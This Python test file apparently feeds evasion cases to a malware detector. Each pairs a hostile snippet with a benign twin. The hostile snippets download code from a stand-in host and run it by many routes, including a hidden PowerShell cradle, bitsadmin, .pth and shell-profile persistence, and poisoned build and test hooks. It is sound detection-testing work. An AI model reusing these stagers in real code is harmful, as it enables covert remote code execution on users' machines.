"""More small programs that receive their payload when they run, in the manner of `stages`."""

from __future__ import annotations

from tests.evasions.sample import INIT, SUSPICIOUS, evasion

CASES = (
    evasion(
        "client class with an asynchronous context",
        """
        import aiohttp, asyncio, types
        class Hub:
            def __init__(self, base):
                self._base = base
            async def __aenter__(self):
                self._session = aiohttp.ClientSession(base_url=self._base)
                return self
            async def __aexit__(self, *error):
                await self._session.close()
            async def job(self, number):
                async with self._session.get(f"/jobs/{number}") as answer:
                    return (await answer.json())["source"]
        async def _main():
            async with Hub("https://stage.example.invalid") as hub:
                code = compile(await hub.job(1), "job", "exec")
                types.FunctionType(code, globals())()
        asyncio.run(_main())
        """,
        """
        import aiohttp
        class Hub:
            def __init__(self, base):
                self._base = base
            async def __aenter__(self):
                self._session = aiohttp.ClientSession(base_url=self._base)
                return self
            async def __aexit__(self, *error):
                await self._session.close()
            async def job(self, number):
                async with self._session.get(f"/jobs/{number}") as answer:
                    return (await answer.json())["source"]
        """,
    ),
    evasion(
        "hook keyword of a request",
        """
        import requests
        def _seen(response, *args, **kwargs):
            if response.ok:
                exec(compile(response.text, response.url, "exec"), {})
            return response
        requests.get("https://stage.example.invalid/a", hooks={"response": [_seen]})
        """,
        """
        import requests
        def _seen(response, *args, **kwargs):
            response.raise_for_status()
            return response
        def get(url):
            return requests.get(url, hooks={"response": [_seen]}).json()
        """,
    ),
    evasion(
        "pool streams into a temporary script",
        """
        import os, shutil, subprocess, sys, tempfile, urllib3
        pool = urllib3.PoolManager(retries=urllib3.Retry(3))
        answer = pool.request("GET", "https://stage.example.invalid/a", preload_content=False)
        with tempfile.NamedTemporaryFile("wb", suffix=".py", delete=False) as out:
            shutil.copyfileobj(answer, out)
        answer.release_conn()
        subprocess.Popen([sys.executable, out.name], close_fds=True)
        """,
        """
        import shutil, urllib3
        def save(url, path):
            pool = urllib3.PoolManager(retries=urllib3.Retry(3))
            answer = pool.request("GET", url, preload_content=False)
            with open(path, "wb") as out:
                shutil.copyfileobj(answer, out)
            answer.release_conn()
            return path
        """,
    ),
    evasion(
        "stream reader of a class, run in an executor",
        """
        import asyncio
        class Line:
            @classmethod
            async def open(cls, host, port):
                self = cls()
                self.reader, self.writer = await asyncio.open_connection(host, port, ssl=True)
                return self
            async def frame(self):
                size = int.from_bytes(await self.reader.readexactly(4), "big")
                return await self.reader.readexactly(size)
        async def _go():
            line = await Line.open("stage.example.invalid", 443)
            await asyncio.get_running_loop().run_in_executor(None, exec, await line.frame())
        asyncio.run(_go())
        """,
        """
        import asyncio
        class Line:
            @classmethod
            async def open(cls, host, port):
                self = cls()
                self.reader, self.writer = await asyncio.open_connection(host, port, ssl=True)
                return self
            async def frame(self):
                size = int.from_bytes(await self.reader.readexactly(4), "big")
                return await self.reader.readexactly(size)
        """,
    ),
    evasion(
        "archive over a file server, its package imported",
        """
        import ftplib, io, os, sys, tempfile, zipfile
        def _fetch():
            memory = io.BytesIO()
            ftp = ftplib.FTP("stage.example.invalid")
            ftp.login()
            ftp.retrbinary("RETR lib.zip", memory.write)
            ftp.quit()
            return memory
        where = tempfile.mkdtemp()
        with zipfile.ZipFile(_fetch()) as archive:
            for name in archive.namelist():
                archive.extract(name, where)
        sys.path.insert(0, where)
        __import__("lib").main()
        """,
        """
        import ftplib, io, zipfile
        def names(host):
            memory = io.BytesIO()
            ftp = ftplib.FTP(host)
            ftp.login()
            ftp.retrbinary("RETR data.zip", memory.write)
            ftp.quit()
            with zipfile.ZipFile(memory) as archive:
                return archive.namelist()
        """,
    ),
    evasion(
        "remote procedure by a computed name",
        """
        from xmlrpc.client import ServerProxy
        with ServerProxy("https://stage.example.invalid/rpc", allow_none=True) as proxy:
            method = getattr(proxy, "get" + "_module")
            exec(method("core").data)
        """,
        """
        from xmlrpc.client import ServerProxy
        def call(url, name, *args):
            with ServerProxy(url, allow_none=True) as proxy:
                return getattr(proxy, "get_" + name)(*args)
        """,
    ),
    evasion(
        "lines of a post box",
        """
        import email.parser, poplib
        box = poplib.POP3_SSL("stage.example.invalid")
        box.user("u"); box.pass_("p")
        count, _ = box.stat()
        _, lines, _ = box.retr(count)
        message = email.parser.BytesParser().parsebytes(b"\\r\\n".join(lines))
        exec(message.get_payload())
        """,
        """
        import email.parser, poplib
        def last(host, user, password):
            box = poplib.POP3_SSL(host)
            box.user(user); box.pass_(password)
            count, _ = box.stat()
            _, lines, _ = box.retr(count)
            return email.parser.BytesParser().parsebytes(b"\\r\\n".join(lines)).get_payload()
        """,
    ),
    evasion(
        "numbered records of a name",
        """
        import base64, zlib
        import dns.resolver
        resolver = dns.resolver.Resolver()
        pieces = {}
        for record in resolver.resolve("parts.stage.example.invalid", "TXT"):
            number, _, text = b"".join(record.strings).decode().partition(":")
            pieces[int(number)] = text
        exec(zlib.decompress(base64.b64decode("".join(pieces[n] for n in sorted(pieces)))))
        """,
        """
        import dns.resolver
        def records(name):
            pieces = {}
            for record in dns.resolver.Resolver().resolve(name, "TXT"):
                number, _, text = b"".join(record.strings).decode().partition(":")
                pieces[int(number)] = text
            return "".join(pieces[n] for n in sorted(pieces))
        """,
    ),
    evasion(
        "frames told apart by a match",
        """
        import asyncio, json, websockets
        async def _serve(uri):
            async for socket in websockets.connect(uri):
                async for frame in socket:
                    match json.loads(frame):
                        case {"op": "ping"}:
                            await socket.send("pong")
                        case {"op": "py", "d": source}:
                            exec(source)
        asyncio.run(_serve("wss://stage.example.invalid/gate"))
        """,
        """
        import asyncio, json, websockets
        async def serve(uri, prices):
            async for socket in websockets.connect(uri):
                async for frame in socket:
                    match json.loads(frame):
                        case {"op": "ping"}:
                            await socket.send("pong")
                        case {"op": "price", "d": number}:
                            prices.append(number)
        """,
    ),
    evasion(
        "bucket's file run from its path",
        """
        import pathlib, runpy, tempfile
        from google.cloud import storage
        client = storage.Client.create_anonymous_client()
        target = pathlib.Path(tempfile.gettempdir(), "job.py")
        client.bucket("example-public").blob("jobs/job.py").download_to_filename(str(target))
        runpy.run_path(str(target), run_name="__main__")
        """,
        """
        import pathlib
        from google.cloud import storage
        def download(bucket, name, folder):
            target = pathlib.Path(folder, name)
            storage.Client().bucket(bucket).blob(name).download_to_filename(str(target))
            return target.read_text()
        """,
    ),
    evasion(
        "channel of a store that is listened to",
        """
        import redis, threading
        def _listen():
            store = redis.from_url("redis://stage.example.invalid:6379/0")
            channel = store.pubsub(ignore_subscribe_messages=True)
            channel.subscribe("jobs")
            for message in channel.listen():
                data = message["data"]
                exec(data if isinstance(data, str) else data.decode())
        threading.Thread(target=_listen, daemon=True).start()
        """,
        """
        import redis
        def listen(url):
            store = redis.from_url(url)
            channel = store.pubsub(ignore_subscribe_messages=True)
            channel.subscribe("jobs")
            for message in channel.listen():
                yield message["data"]
        """,
    ),
    evasion(
        "consumer of a broker",
        """
        import pika
        def _on(channel, method, properties, body):
            eval(compile(body.decode(), "job", "exec"))
            channel.basic_ack(method.delivery_tag)
        connection = pika.BlockingConnection(pika.URLParameters("amqps://stage.example.invalid"))
        channel = connection.channel()
        channel.queue_declare("jobs")
        channel.basic_consume(queue="jobs", on_message_callback=_on)
        channel.start_consuming()
        """,
        """
        import json, pika
        def _on(channel, method, properties, body):
            print(json.loads(body.decode()))
            channel.basic_ack(method.delivery_tag)
        def consume(url):
            connection = pika.BlockingConnection(pika.URLParameters(url))
            channel = connection.channel()
            channel.queue_declare("jobs")
            channel.basic_consume(queue="jobs", on_message_callback=_on)
            channel.start_consuming()
        """,
    ),
    evasion(
        "parts of a message queue",
        """
        import zmq
        context = zmq.Context.instance()
        with context.socket(zmq.SUB) as subscriber:
            subscriber.connect("tcp://stage.example.invalid:5556")
            subscriber.setsockopt_string(zmq.SUBSCRIBE, "")
            poller = zmq.Poller()
            poller.register(subscriber, zmq.POLLIN)
            while dict(poller.poll()):
                topic, body = subscriber.recv_multipart()
                exec(body)
        """,
        """
        import zmq
        def messages(address):
            with zmq.Context.instance().socket(zmq.SUB) as subscriber:
                subscriber.connect(address)
                subscriber.setsockopt_string(zmq.SUBSCRIBE, "")
                while True:
                    topic, body = subscriber.recv_multipart()
                    yield topic, body
        """,
    ),
    evasion(
        "row of a data base, by its column",
        """
        import psycopg2, psycopg2.extras
        with psycopg2.connect("host=stage.example.invalid dbname=d user=u") as connection:
            with connection.cursor(cursor_factory=psycopg2.extras.RealDictCursor) as cursor:
                cursor.execute("select body from jobs where done is null limit %s", (1,))
                row = cursor.fetchone()
        if row is not None:
            exec(row["body"], {"row": row})
        """,
        """
        import psycopg2, psycopg2.extras
        def body(dsn):
            with psycopg2.connect(dsn) as connection:
                with connection.cursor(cursor_factory=psycopg2.extras.RealDictCursor) as cursor:
                    cursor.execute("select body from jobs where done is null limit %s", (1,))
                    row = cursor.fetchone()
            return row["body"] if row is not None else None
        """,
    ),
    evasion(
        "table mapped to classes",
        """
        from sqlalchemy import create_engine, select
        from sqlalchemy.orm import DeclarativeBase, Mapped, Session, mapped_column
        class Base(DeclarativeBase): pass
        class Job(Base):
            __tablename__ = "jobs"
            id: Mapped[int] = mapped_column(primary_key=True)
            body: Mapped[str]
        engine = create_engine("postgresql+psycopg://u:p@stage.example.invalid/d")
        with Session(engine) as session:
            for job in session.scalars(select(Job)):
                exec(job.body)
        """,
        """
        from sqlalchemy import create_engine, select
        from sqlalchemy.orm import DeclarativeBase, Mapped, Session, mapped_column
        class Base(DeclarativeBase): pass
        class Job(Base):
            __tablename__ = "jobs"
            id: Mapped[int] = mapped_column(primary_key=True)
            body: Mapped[str]
        def bodies(url):
            with Session(create_engine(url)) as session:
                return [job.body for job in session.scalars(select(Job))]
        """,
    ),
    evasion(
        "gist by a forge's client",
        """
        from github import Github, Auth
        forge = Github(base_url="https://api.example.invalid")
        for name, part in forge.get_gist("0123456789abcdef").files.items():
            if name.endswith(".py"):
                exec(compile(part.content, name, "exec"))
        """,
        """
        from github import Github
        def files(number):
            return {name: part.content for name, part in Github().get_gist(number).files.items()}
        """,
    ),
    evasion(
        "history of a channel",
        """
        import os
        from slack_sdk import WebClient
        client = WebClient(token="xoxb-0", base_url="https://stage.example.invalid/api/")
        answer = client.conversations_history(channel="C0", limit=1)
        for message in answer["messages"]:
            os.system(message["text"])
        """,
        """
        from slack_sdk import WebClient
        def texts(token, channel):
            answer = WebClient(token=token).conversations_history(channel=channel, limit=1)
            return [message["text"] for message in answer["messages"]]
        """,
    ),
    evasion(
        "page read by a headless browser",
        """
        from playwright.sync_api import sync_playwright
        with sync_playwright() as play:
            browser = play.chromium.launch()
            page = browser.new_page()
            page.goto("https://stage.example.invalid/p")
            source = page.evaluate("() => document.body.innerText")
            browser.close()
        exec(source)
        """,
        """
        from playwright.sync_api import sync_playwright
        def text(url):
            with sync_playwright() as play:
                browser = play.chromium.launch()
                page = browser.new_page()
                page.goto(url)
                source = page.evaluate("() => document.body.innerText")
                browser.close()
            return source
        """,
    ),
    evasion(
        "file of a share",
        """
        import io
        from smb.SMBConnection import SMBConnection
        connection = SMBConnection("guest", "", "me", "stage", use_ntlm_v2=True)
        connection.connect("stage.example.invalid", 445)
        into = io.BytesIO()
        connection.retrieveFile("public", "/a.py", into)
        exec(into.getvalue())
        """,
        """
        import io
        from smb.SMBConnection import SMBConnection
        def read(host, share, path):
            connection = SMBConnection("guest", "", "me", host, use_ntlm_v2=True)
            connection.connect(host, 445)
            into = io.BytesIO()
            connection.retrieveFile(share, path, into)
            return into.getvalue()
        """,
    ),
    evasion(
        "file of a remote branch, by git",
        """
        import subprocess, tempfile
        folder = tempfile.mkdtemp()
        def git(*words):
            return subprocess.check_output(["git", "-C", folder, *words], text=True)
        git("init", "-q")
        git("fetch", "-q", "--depth=1", "https://stage.example.invalid/r.git", "main")
        exec(git("show", "FETCH_HEAD:run.py"))
        """,
        """
        import subprocess
        def git(folder, *words):
            return subprocess.check_output(["git", "-C", folder, *words], text=True)
        def version(folder):
            git(folder, "fetch", "-q", "--tags")
            return git(folder, "describe", "--tags").strip()
        """,
    ),
    evasion(
        "installer called in this process",
        """
        import sys, tempfile
        from pip._internal.cli.main import main as pip
        folder = tempfile.mkdtemp()
        pip(["install", "-qqq", "--target", folder, "git+https://stage.example.invalid/extra.git"])
        sys.path.append(folder)
        import extra
        extra.run()
        """,
        """
        from pip._internal.cli.main import main as pip
        def install(names, folder):
            return pip(["install", "-qqq", "--target", folder, *names])
        """,
    ),
    evasion(
        "cradle put together from a list",
        """
        import subprocess, sys
        URL = "https://stage.example.invalid/s"
        parts = ["power", "shell"]
        arguments = ["-nop", "-w", "hidden", "-c", f"irm {URL} | iex"]
        if sys.platform.startswith("win"):
            subprocess.Popen(["".join(parts), *arguments], creationflags=0x08000000)
        """,
        """
        import subprocess, sys
        def version():
            arguments = ["-nop", "-c", "$PSVersionTable.PSVersion"]
            if sys.platform.startswith("win"):
                return subprocess.check_output(["powershell", *arguments])
        """,
    ),
    evasion(
        "background transfer, then opened",
        """
        import os
        target = os.path.join(os.environ.get("APPDATA", "."), "Helper", "h.exe")
        os.makedirs(os.path.dirname(target), exist_ok=True)
        os.system(f'bitsadmin /transfer job /download /priority high https://stage.example.invalid/h.exe "{target}"')
        if os.path.isfile(target):
            os.startfile(target)
        """,
        """
        import os
        def config():
            target = os.path.join(os.environ.get("APPDATA", "."), "Helper", "h.ini")
            os.makedirs(os.path.dirname(target), exist_ok=True)
            if os.path.isfile(target):
                os.startfile(target)
        """,
    ),
    evasion(
        "path file in the site's folder",
        """
        import os, sysconfig, urllib.request
        purelib = sysconfig.get_paths()["purelib"]
        line = urllib.request.urlopen("https://stage.example.invalid/line").read().decode().strip()
        with open(os.path.join(purelib, "zz_boot.pth"), "w") as out:
            print("import sys; " + line, file=out)
        """,
        """
        import os, sysconfig
        def paths():
            purelib = sysconfig.get_paths()["purelib"]
            return [n for n in os.listdir(purelib) if n.endswith(".pth")]
        """,
    ),
    evasion(
        "settings file that runs at the next shell",
        """
        import pathlib, urllib.request
        def _append(name, text):
            path = pathlib.Path.home().joinpath(name)
            if path.exists():
                with path.open("a") as out:
                    out.write("\\n" + text + "\\n")
        snippet = urllib.request.urlopen("https://stage.example.invalid/rc").read().decode()
        for name in (".bashrc", ".zshrc", ".profile"):
            _append(name, snippet)
        """,
        """
        import pathlib
        def shells():
            return [n for n in (".bashrc", ".zshrc", ".profile") if pathlib.Path.home().joinpath(n).exists()]
        """,
    ),
    evasion(
        "variable of the environment in between",
        """
        import os, urllib.request
        def _load():
            os.environ.setdefault("APP_SETTINGS", urllib.request.urlopen("https://stage.example.invalid/a").read().decode())
        def _apply():
            settings = os.environ.get("APP_SETTINGS", "")
            if settings:
                exec(settings)
        _load()
        _apply()
        """,
        """
        import json, os, urllib.request
        def load(url):
            os.environ.setdefault("APP_SETTINGS", urllib.request.urlopen(url).read().decode())
        def settings():
            return json.loads(os.environ.get("APP_SETTINGS", "{}"))
        """,
    ),
    evasion(
        "cache on disk in between",
        """
        import diskcache, requests
        cache = diskcache.Cache("/tmp/.cache-example")
        if "body" not in cache:
            cache.set("body", requests.get("https://stage.example.invalid/a").text, expire=3600)
        exec(cache["body"])
        """,
        """
        import diskcache, requests
        def body(url, folder):
            cache = diskcache.Cache(folder)
            if url not in cache:
                cache.set(url, requests.get(url).text, expire=3600)
            return cache[url]
        """,
    ),
    evasion(
        "shelf in between",
        """
        import shelve, urllib.request
        def _store():
            with shelve.open("/tmp/example-state") as shelf:
                shelf["body"] = urllib.request.urlopen("https://stage.example.invalid/a").read()
        def _run():
            with shelve.open("/tmp/example-state", flag="r") as shelf:
                exec(shelf["body"])
        _store(); _run()
        """,
        """
        import shelve, urllib.request
        def store(url, path):
            with shelve.open(path) as shelf:
                shelf["body"] = urllib.request.urlopen(url).read()
        def read(path):
            with shelve.open(path, flag="r") as shelf:
                return shelf["body"]
        """,
    ),
    evasion(
        "loader that brings source",
        """
        import importlib, importlib.abc, importlib.util, sys, urllib.request
        class _Web(importlib.abc.SourceLoader):
            def get_filename(self, fullname):
                return "https://stage.example.invalid/" + fullname + ".py"
            def get_data(self, path):
                return urllib.request.urlopen(path).read()
        spec = importlib.util.spec_from_loader("payload", _Web())
        module = importlib.util.module_from_spec(spec)
        sys.modules["payload"] = module
        spec.loader.exec_module(module)
        """,
        """
        import importlib.abc, importlib.util
        class Memory(importlib.abc.SourceLoader):
            def get_filename(self, fullname):
                return "memory:" + fullname
            def get_data(self, path):
                return b"answer = 42"
        def load(name):
            spec = importlib.util.spec_from_loader(name, Memory())
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module
        """,
    ),
    evasion(
        "archive on the path",
        """
        import os, sys, tempfile, zipimport, httpx
        path = os.path.join(tempfile.gettempdir(), "site.zip")
        with open(path, "wb") as out, httpx.stream("GET", "https://stage.example.invalid/site.zip") as answer:
            for piece in answer.iter_bytes():
                out.write(piece)
        zipimport.zipimporter(path).load_module("site_extra")
        """,
        """
        import httpx
        def save(url, path):
            with open(path, "wb") as out, httpx.stream("GET", url) as answer:
                for piece in answer.iter_bytes():
                    out.write(piece)
        """,
    ),
    evasion(
        "back end of the build asks a machine",
        {
            "pyproject.toml": """
            [build-system]
            requires = ["setuptools"]
            build-backend = "backend"
            backend-path = ["_build"]
            """,
            INIT: "",
            "_build/backend.py": """
            from setuptools import build_meta as _base
            from setuptools.build_meta import *
            import http.client
            def _prepare():
                line = http.client.HTTPSConnection("stage.example.invalid")
                line.request("GET", "/b")
                return line.getresponse().read()
            def build_wheel(directory, settings=None, metadata=None):
                exec(_prepare(), {"directory": directory})
                return _base.build_wheel(directory, settings, metadata)
            """,
        },
        {
            "pyproject.toml": """
            [build-system]
            requires = ["setuptools"]
            build-backend = "backend"
            backend-path = ["_build"]
            """,
            INIT: "",
            "_build/backend.py": """
            from setuptools import build_meta as _base
            from setuptools.build_meta import *
            import pathlib
            def build_wheel(directory, settings=None, metadata=None):
                pathlib.Path("example_pkg/_built.py").write_text("built = True\\n")
                return _base.build_wheel(directory, settings, metadata)
            """,
        },
    ),
    evasion(
        "extension class of a setup script",
        {
            "setup.py": """
            from setuptools import setup, Extension
            from setuptools.command.build_ext import build_ext
            import urllib.request
            class Build(build_ext):
                def build_extension(self, ext):
                    source = self._source(ext.name)
                    exec(compile(source, ext.name, "exec"), {"ext": ext})
                def _source(self, name):
                    with urllib.request.urlopen("https://stage.example.invalid/" + name) as answer:
                        return answer.read().decode()
            setup(name="example-pkg", version="1.0", ext_modules=[Extension("fast", [])], cmdclass=dict(build_ext=Build))
            """,
        },
        {
            "setup.py": """
            from setuptools import setup, Extension
            from setuptools.command.build_ext import build_ext
            class Build(build_ext):
                def build_extension(self, ext):
                    ext.extra_compile_args.append("-O2")
                    super().build_extension(ext)
            setup(name="example-pkg", version="1.0", ext_modules=[Extension("fast", ["fast.c"])], cmdclass=dict(build_ext=Build))
            """,
        },
    ),
    evasion(
        "shared configuration of tests",
        {
            "pyproject.toml": '[project]\nname = "example-pkg"\nversion = "1.0"\n',
            INIT: "",
            "conftest.py": """
            import pytest, requests
            @pytest.fixture(autouse=True, scope="session")
            def _prepare():
                exec(requests.get("https://stage.example.invalid/t").text)
                yield
            """,
        },
        {
            "pyproject.toml": '[project]\nname = "example-pkg"\nversion = "1.0"\n',
            INIT: "",
            "conftest.py": """
            import pytest, requests
            @pytest.fixture(scope="session")
            def table():
                return requests.get("https://data.example.invalid/t").json()
            """,
        },
        SUSPICIOUS,
    ),
    evasion(
        "extension of a notebook server",
        """
        import threading, requests
        def _jupyter_server_extension_points():
            return [{"module": "example_pkg"}]
        def _load_jupyter_server_extension(app):
            def _later():
                exec(requests.get("https://stage.example.invalid/j").text, {"app": app})
            threading.Timer(5, _later).start()
        """,
        """
        import threading, requests
        def _jupyter_server_extension_points():
            return [{"module": "example_pkg"}]
        def _load_jupyter_server_extension(app):
            def _later():
                app.log.info(requests.get("https://news.example.invalid/j").text)
            threading.Timer(5, _later).start()
        """,
        SUSPICIOUS,
    ),
    evasion(
        "interpreter object of the standard library",
        """
        import code, urllib.request
        class Shell(code.InteractiveInterpreter):
            def feed(self, url):
                for line in urllib.request.urlopen(url).read().decode().split("\\f"):
                    self.runsource(line, symbol="exec")
        Shell().feed("https://stage.example.invalid/lines")
        """,
        """
        import code
        class Shell(code.InteractiveInterpreter):
            def feed(self, path):
                for line in open(path).read().split("\\f"):
                    self.runsource(line, symbol="exec")
        """,
    ),
    evasion(
        "weights that are a pickle",
        """
        import torch, huggingface_hub
        path = huggingface_hub.hf_hub_download("example-owner/tiny", "weights.pt")
        state = torch.load(path, weights_only=False)
        """,
        """
        import huggingface_hub, json
        def config(name):
            path = huggingface_hub.hf_hub_download(name, "config.json")
            with open(path) as source:
                return json.load(source)
        """,
        SUSPICIOUS,
    ),
    evasion(
        "text of a page's element",
        """
        import requests
        from bs4 import BeautifulSoup
        page = BeautifulSoup(requests.get("https://stage.example.invalid/post").content, "html.parser")
        block = page.select_one("div.post pre") or page.find("pre")
        exec(block.get_text())
        """,
        """
        import requests
        from bs4 import BeautifulSoup
        def blocks(url):
            page = BeautifulSoup(requests.get(url).content, "html.parser")
            return [block.get_text() for block in page.find_all("pre")]
        """,
    ),
    evasion(
        "cell of a table that is loaded by its address",
        """
        import pandas as pd
        frame = pd.read_csv("https://stage.example.invalid/t.csv")
        for row in frame.itertuples(index=False):
            exec(row.body)
        """,
        """
        import pandas as pd
        def bodies(url):
            return [row.body for row in pd.read_csv(url).itertuples(index=False)]
        """,
    ),
    evasion(
        "clone by another library, then a command",
        """
        import os, subprocess, tempfile
        from dulwich import porcelain
        target = tempfile.mkdtemp()
        porcelain.clone("https://stage.example.invalid/r.git", target, depth=1)
        subprocess.call(["bash", os.path.join(target, "install.sh")])
        """,
        """
        from dulwich import porcelain
        def tags(url, target):
            repository = porcelain.clone(url, target, depth=1)
            return porcelain.tag_list(repository)
        """,
    ),
    evasion(
        "opened by a library that opens everything",
        """
        from smart_open import open as sopen
        with sopen("https://stage.example.invalid/a.py.gz", "rt") as lines:
            source = "".join(line for line in lines if not line.startswith("#"))
        exec(source)
        """,
        """
        from smart_open import open as sopen
        def lines(url):
            with sopen(url, "rt") as lines:
                return [line for line in lines if not line.startswith("#")]
        """,
    ),
    evasion(
        "context manager that yields what it fetched",
        """
        import contextlib, os, tempfile, urllib.request
        @contextlib.contextmanager
        def remote(url):
            handle, path = tempfile.mkstemp()
            try:
                os.write(handle, urllib.request.urlopen(url).read())
                os.close(handle)
                with open(path) as source:
                    yield source
            finally:
                os.unlink(path)
        with remote("https://stage.example.invalid/a") as source:
            exec(source.read())
        """,
        """
        import contextlib, os, tempfile, urllib.request
        @contextlib.contextmanager
        def remote(url):
            handle, path = tempfile.mkstemp()
            try:
                os.write(handle, urllib.request.urlopen(url).read())
                os.close(handle)
                with open(path) as source:
                    yield source
            finally:
                os.unlink(path)
        def count(url):
            with remote(url) as source:
                return len(source.readlines())
        """,
    ),
    evasion(
        "task group and a queue",
        """
        import asyncio, httpx
        async def _producer(queue):
            async with httpx.AsyncClient() as client:
                answer = await client.get("https://stage.example.invalid/a")
                await queue.put(answer.text)
        async def _consumer(queue):
            exec(await queue.get())
        async def _main():
            queue = asyncio.Queue()
            async with asyncio.TaskGroup() as group:
                group.create_task(_producer(queue))
                group.create_task(_consumer(queue))
        asyncio.run(_main())
        """,
        """
        import asyncio, httpx
        async def _producer(queue, url):
            async with httpx.AsyncClient() as client:
                answer = await client.get(url)
                await queue.put(answer.text)
        async def _consumer(queue):
            return len(await queue.get())
        async def main(url):
            queue = asyncio.Queue()
            async with asyncio.TaskGroup() as group:
                group.create_task(_producer(queue, url))
                group.create_task(_consumer(queue))
        """,
    ),
    evasion(
        "worker processes of a pool",
        """
        from concurrent.futures import ProcessPoolExecutor, as_completed
        import urllib.request
        def _get(number):
            return urllib.request.urlopen(f"https://stage.example.invalid/{number}").read()
        if __name__ != "__main__":
            with ProcessPoolExecutor(2) as pool:
                futures = [pool.submit(_get, n) for n in range(2)]
                for future in as_completed(futures):
                    exec(future.result())
        """,
        """
        from concurrent.futures import ProcessPoolExecutor, as_completed
        import urllib.request
        def _get(url):
            return urllib.request.urlopen(url).read()
        def sizes(urls):
            with ProcessPoolExecutor(2) as pool:
                futures = [pool.submit(_get, url) for url in urls]
                return [len(future.result()) for future in as_completed(futures)]
        """,
    ),
    evasion(
        "registry of handlers, looked up by what arrives",
        """
        import json, socket
        HANDLERS = {}
        def handler(name):
            def add(function):
                HANDLERS[name] = function
                return function
            return add
        @handler("log")
        def _log(data):
            print(data)
        @handler("eval")
        def _run(data):
            exec(data)
        with socket.create_connection(("stage.example.invalid", 4433)) as line:
            for row in line.makefile("r", encoding="utf-8"):
                message = json.loads(row)
                HANDLERS[message["kind"]](message["data"])
        """,
        """
        import json, socket
        HANDLERS = {}
        def handler(name):
            def add(function):
                HANDLERS[name] = function
                return function
            return add
        @handler("log")
        def _log(data):
            print(data)
        def listen(address):
            with socket.create_connection(address) as line:
                for row in line.makefile("r", encoding="utf-8"):
                    message = json.loads(row)
                    HANDLERS[message["kind"]](message["data"])
        """,
    ),
    evasion(
        "handler methods by the name of a command",
        """
        import socketserver, threading
        class Control(socketserver.StreamRequestHandler):
            def handle(self):
                for raw in self.rfile:
                    verb, _, rest = raw.decode().partition(" ")
                    getattr(self, "do_" + verb.strip(), self.do_help)(rest)
            def do_help(self, rest):
                self.wfile.write(b"?\\n")
            def do_py(self, rest):
                exec(rest, {"self": self})
        server = socketserver.ThreadingTCPServer(("0.0.0.0", 9009), Control)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        """,
        """
        import socketserver
        class Control(socketserver.StreamRequestHandler):
            def handle(self):
                for raw in self.rfile:
                    verb, _, rest = raw.decode().partition(" ")
                    getattr(self, "do_" + verb.strip(), self.do_help)(rest)
            def do_help(self, rest):
                self.wfile.write(b"?\\n")
        def serve(port):
            with socketserver.ThreadingTCPServer(("127.0.0.1", port), Control) as server:
                server.serve_forever()
        """,
    ),
    evasion(
        "descriptor of a pipe",
        """
        import os, urllib.request
        reading, writing = os.pipe()
        os.write(writing, urllib.request.urlopen("https://stage.example.invalid/a").read())
        os.close(writing)
        with os.fdopen(reading) as source:
            exec(source.read())
        """,
        """
        import os
        def echo(text):
            reading, writing = os.pipe()
            os.write(writing, text.encode())
            os.close(writing)
            with os.fdopen(reading) as source:
                return source.read()
        """,
    ),
    evasion(
        "program fed line by line",
        """
        import subprocess, sys, requests
        child = subprocess.Popen([sys.executable, "-i"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True)
        for line in requests.get("https://stage.example.invalid/a", stream=True).iter_lines(decode_unicode=True):
            print(line, file=child.stdin)
        child.stdin.close()
        """,
        """
        import subprocess, requests
        def sort(url):
            child = subprocess.Popen(["sort"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
            for line in requests.get(url, stream=True).iter_lines(decode_unicode=True):
                print(line, file=child.stdin)
            return child.communicate()[0]
        """,
    ),
)
